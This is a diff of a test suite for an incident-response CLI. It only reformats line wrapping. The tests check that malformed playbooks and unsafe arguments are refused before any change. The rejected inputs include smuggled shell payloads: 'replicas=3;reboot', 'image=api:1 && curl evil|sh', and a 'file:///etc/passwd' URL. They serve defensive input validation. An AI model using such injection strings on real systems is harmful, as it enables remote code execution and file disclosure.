@@ -73,7 +73,9 @@ describe('inc run refuses before any change', () => {
   }
 
   it('refuses every malformed playbook of the corpus with exit 2, naming file:line:col', async () => {
-    const corpus = readdirSync(FIXTURES).filter((f) => f.endsWith('.yaml')).sort();
+    const corpus = readdirSync(FIXTURES)
+      .filter((f) => f.endsWith('.yaml'))
+      .sort();
     expect(corpus.length).toBeGreaterThanOrEqual(12);
     const stderrs = await expectAllRefused(corpus.map((file) => ['run', join(FIXTURES, file)]));
     corpus.forEach((file, index) => {
@@ -92,7 +94,17 @@ describe('inc run refuses before any change', () => {
       ['scale', '--set', 'namespace=payments', '--set', 'deployment=worker', '--set', 'replicas=3;reboot'],
       ['rollback', '--set', 'namespace=payments', '--set', 'deployment=api', '--set', 'timeout=forever'],
       ['rollback', '--set', 'namespace=payments', '--set', 'deployment=api', '--set', 'force=true'],
-      ['pin-image', '--set', 'namespace=payments', '--set', 'deployment=api', '--set', 'container=api', '--set', 'image=api:1 && curl evil|sh'],
+      [
+        'pin-image',
+        '--set',
+        'namespace=payments',
+        '--set',
+        'deployment=api',
+        '--set',
+        'container=api',
+        '--set',
+        'image=api:1 && curl evil|sh',
+      ],
       ['feature-flag', '--set', 'url=file:///etc/passwd', '--set', 'enabled=true'],
       ['scale', '--set', 'namespace=payments', '--set', 'deployment=worker'],
       ['rollbak', '--set', 'deployment=api'],
@@ -133,7 +145,9 @@ describe('a concurrent change between plan and apply', () => {
     const result = await running;
 
     expect(result.code).toBe(1);
-    expect(result.stderr).toContain(`deployment payments/api changed since the plan (resourceVersion ${plannedVersion} → `);
+    expect(result.stderr).toContain(
+      `deployment payments/api changed since the plan (resourceVersion ${plannedVersion} → `,
+    );
     expect(result.stderr).toContain('nothing was applied');
     const after = world.object('Deployment', 'payments', 'api');
     expect(after.metadata.annotations['team/changed-by']).toBe('someone-else');
